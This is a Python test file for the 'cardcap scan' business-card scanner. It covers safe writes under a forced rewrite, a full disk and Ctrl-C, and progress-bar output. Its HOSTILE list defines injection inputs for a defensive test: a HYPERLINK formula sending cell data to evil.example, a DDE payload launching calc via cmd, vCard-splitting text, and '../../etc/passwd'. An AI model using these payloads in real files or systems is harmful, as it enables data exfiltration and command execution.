"""What `cardcap scan` leaves on disk and on the screen: earlier results never
lost or half-overwritten (exists, disk full, Ctrl-C), card text that cannot
break the programs importing the files, a progress bar only on a terminal."""
from __future__ import annotations

import csv
import errno
import io
import json
import os
import pty
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import vobject
from typer.testing import CliRunner

import cardcap.fsio as fsio
from cardcap.cli import app
from cardcap.export.csvout import FORMULA_START
from cardcap.model import Address, Contact, ImageResult, NameParts, Phone
from cardcap.outputs import FIXED_OUTPUTS, scan_files, write_scan_outputs

from cardkit import process_stats, write_card

CARDCAP = [sys.executable, "-m", "cardcap"]


def invoke(*args: str):
    return CliRunner().invoke(app, ["scan", *args, "--jobs", "1", "--region", "GB"])


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file's bytes; in contacts.json all but the timing, which no two runs share."""
    files = {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
    if files.get("contacts.json", b"").startswith(b"["):
        results = json.loads(files["contacts.json"])
        for result in results:
            result.pop("seconds", None)
        files["contacts.json"] = json.dumps(results).encode()
    return files


@pytest.fixture
def earlier_scan(tmp_path: Path, scripted) -> tuple[Path, Path, dict[str, bytes]]:
    """An output folder holding a complete earlier scan, and a new photo."""
    photo = write_card(tmp_path / "card.png")
    out = tmp_path / "out"
    result = invoke(str(photo), "-o", str(out), "--quiet")
    assert result.exit_code == 0, result.stderr
    return photo, out, snapshot(out)


# --- nothing lost ------------------------------------------------------------------

def test_force_replaces_the_earlier_scan(earlier_scan) -> None:
    photo, out, before = earlier_scan
    (out / "contacts.vcf").write_bytes(b"edited by hand\r\n")
    result = invoke(str(photo), "-o", str(out), "--force")
    assert result.exit_code == 0, result.stderr
    assert snapshot(out) == before
    assert f"wrote {out / 'contacts.vcf'}" in result.stderr


def test_disk_full_leaves_the_earlier_scan_intact(earlier_scan, monkeypatch) -> None:
    photo, out, before = earlier_scan
    real_write = os.write
    calls = []

    def write_until_full(fd, data):
        calls.append(len(data))
        if len(calls) >= 3:  # the third file no longer fits
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    monkeypatch.setattr(fsio.os, "write", write_until_full)
    result = invoke(str(photo), "-o", str(out), "--force")
    assert result.exit_code == 5
    assert "No space left on device" in result.stderr and "nothing was written" in result.stderr
    assert snapshot(out) == before  # every earlier file whole, no temporary file left behind


@pytest.fixture
def tiny_disk(tmp_path: Path):
    """A real 64 kB file system, when we may mount one (root on Linux)."""
    mount_point = tmp_path / "disk"
    mount_point.mkdir()
    try:
        proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount_point)],
                              capture_output=True, timeout=30)
    except (OSError, subprocess.TimeoutExpired) as exc:
        pytest.skip(f"cannot mount a tmpfs: {exc}")
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs: {proc.stderr.decode().strip()}")
    try:
        yield mount_point
    finally:
        subprocess.run(["umount", str(mount_point)], capture_output=True, timeout=30)


def test_a_really_full_disk_leaves_the_earlier_scan_intact(tiny_disk: Path, tmp_path: Path, scripted) -> None:
    photo = write_card(tmp_path / "card.png")
    out = tiny_disk / "out"
    assert invoke(str(photo), "-o", str(out), "--quiet").exit_code == 0
    before = snapshot(out)
    with open(tiny_disk / "filler", "wb", buffering=0) as filler:  # fill it to the last byte
        with pytest.raises(OSError) as full:
            while True:
                filler.write(b"\0" * 1024)
                filler.flush()
        assert full.value.errno == errno.ENOSPC
    result = invoke(str(photo), "-o", str(out), "--force")
    assert result.exit_code == 5, result.stderr
    assert "No space left on device" in result.stderr
    assert snapshot(out) == before


def test_ctrl_c_while_writing_leaves_the_earlier_scan_intact(earlier_scan, monkeypatch) -> None:
    photo, out, before = earlier_scan
    real_fsync = os.fsync
    calls = []

    def interrupted(fd):
        calls.append(fd)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real_fsync(fd)

    monkeypatch.setattr(fsio.os, "fsync", interrupted)
    result = invoke(str(photo), "-o", str(out), "--force")
    assert result.exit_code == 130
    assert "interrupted" in result.stderr
    assert snapshot(out) == before


def test_ctrl_c_mid_batch_stops_promptly_and_keeps_the_earlier_scan(tmp_path: Path) -> None:
    """SIGINT to the whole process group, as a terminal's Ctrl-C sends it,
    while worker processes are reading photos."""
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / "a-first.jpg").write_bytes(b"broken")  # its error line says the batch has started
    for n in range(16):
        write_card(photos / f"card{n:02d}.png")
    out = tmp_path / "out"
    out.mkdir()
    earlier = {name: f"earlier {name}\r\n".encode() for name in FIXED_OUTPUTS}
    for name, data in earlier.items():
        (out / name).write_bytes(data)
    proc = subprocess.Popen([*CARDCAP, "scan", str(photos), "-o", str(out), "--force", "--jobs", "2"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        first_line = proc.stderr.readline()
        assert b"a-first.jpg" in first_line, first_line
        os.killpg(proc.pid, signal.SIGINT)
        started = time.monotonic()
        _, stderr = proc.communicate(timeout=60)
        stopped_after = time.monotonic() - started
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 130, stderr
    assert b"interrupted" in stderr and b"Traceback" not in stderr
    assert stopped_after < 15
    assert snapshot(out) == earlier
    deadline = time.monotonic() + 10
    while _running_in_group(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _running_in_group(proc.pid) == []  # no worker or fork server left running


def _running_in_group(pgid: int) -> list[int]:
    """Live processes of a process group (exited ones not yet reaped do not count)."""
    return [pid for pid, stat in process_stats().items() if int(stat[2]) == pgid and stat[0] not in ("Z", "X")]


# --- nothing harmful written ---------------------------------------------------------

HOSTILE = [
    "Ana\nBEGIN:VCARD\nFN:Mallory\nEND:VCARD",
    "Smith; Jones, Jr.\\n",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "../../etc/passwd",
    "+1 (555) 010-0000;ext=9",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tindented",
    "CON",
    "..",
]


def hostile_contact(text: str, n: int = 0) -> Contact:
    # each a different person (own email and phone), so the address book keeps them all
    return Contact(
        name=text, name_parts=NameParts(given=text, family=text), title=text, department=text, company=text,
        emails=[f"ana{n}@example.com"], phones=[Phone(number=f"+4420794609{n:02d}", text=text)],
        address=Address(text=text, street=text, city=text, postcode=text, country="GB"),
        urls=["https://example.com/" + text.replace("\n", "")], notes=[text], image=text,
    )


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_hostile_card_text_stays_inside_every_file(tmp_path: Path, version: str) -> None:
    contacts = [hostile_contact(text, n) for n, text in enumerate(HOSTILE)]
    results = [ImageResult(image="cards/photo.jpg", contacts=contacts)]
    out = tmp_path / "out"
    out.mkdir()
    files = scan_files(results, out, vcard_version=version)
    for path in files:
        assert path.parent == out, path  # no name leaves the folder
        assert not path.name.startswith("."), path
    write_scan_outputs(results, out, vcard_version=version)
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in files)

    cards = list(vobject.readComponents((out / "contacts.vcf").read_text(encoding="utf-8")))
    assert len(cards) == len(HOSTILE)  # an injected END:VCARD/BEGIN:VCARD starts no new card
    for n, (card, text) in enumerate(zip(cards, HOSTILE)):
        text = text.strip()  # vCard values do not keep edge whitespace
        assert card.fn.value == text
        assert card.title.value == text
        assert card.org.value[0] == text
        assert card.email.value == f"ana{n}@example.com"
    singles = [p for p in files if p.name not in FIXED_OUTPUTS]
    assert len(singles) == len(HOSTILE)
    for path in singles:
        assert len(list(vobject.readComponents(path.read_text(encoding="utf-8")))) == 1

    for name in ("contacts-google.csv", "contacts-outlook.csv"):
        rows = list(csv.reader(io.StringIO((out / name).read_text(encoding="utf-8-sig"), newline="")))
        header, body = rows[0], rows[1:]
        assert len(body) == len(HOSTILE)
        for row in body:
            assert len(row) == len(header)
            for column, cell in zip(header, row):
                if cell.startswith(FORMULA_START):  # only a bare international number may
                    assert "Phone" in column and cell.startswith("+") and cell[1:].replace(" ", "").isdigit(), (column, cell)

    parsed = json.loads((out / "contacts.json").read_text(encoding="utf-8"))
    assert [c["name"] for c in parsed[0]["contacts"]] == HOSTILE


# --- the screen ----------------------------------------------------------------------

def test_piped_output_is_plain_and_quiet_means_silent(tmp_path: Path, scripted) -> None:
    photo = write_card(tmp_path / "card.png")
    (tmp_path / "broken.jpg").write_bytes(b"\xff\xd8\xff" + b"\0" * 50)
    result = invoke(str(tmp_path), "--format", "json")
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0].startswith(f"{tmp_path / 'broken.jpg'}: ")
    assert lines[-1].startswith("2 images, 1 card, 1 contact, 1 failed")
    assert "\x1b" not in result.stderr and "\r" not in result.stderr  # no bar, no colour codes
    assert len(json.loads(result.stdout)) == 2
    quiet = invoke(str(tmp_path), "--format", "json", "--quiet")
    assert quiet.exit_code == 1 and quiet.stderr == ""
    assert [r["image"] for r in json.loads(quiet.stdout)] == [r["image"] for r in json.loads(result.stdout)]
    assert photo.exists()


def test_a_terminal_gets_a_progress_bar_and_a_summary(tmp_path: Path) -> None:
    (tmp_path / "broken.jpg").write_bytes(b"")
    write_card(tmp_path / "card.png")
    leader, follower = pty.openpty()
    proc = subprocess.Popen([*CARDCAP, "scan", str(tmp_path), "--format", "json", "--jobs", "1"],
                            stdout=subprocess.PIPE, stderr=follower, env=dict(os.environ, COLUMNS="100"))
    os.close(follower)
    screen = b""
    try:
        while True:
            ready, _, _ = select.select([leader], [], [], 120)
            if not ready:
                break
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            screen += chunk
    finally:
        stdout, _ = proc.communicate(timeout=120)
        os.close(leader)
    text = screen.decode("utf-8", "replace")
    assert proc.returncode == 1
    assert "scanning" in text and "2/2" in text  # the bar, counting every input
    assert "skipped" in text and "broken.jpg" in text and "empty file" in text
    assert "2 images, 1 card, 1 contact, 1 failed" in text
    assert len(json.loads(stdout)) == 2
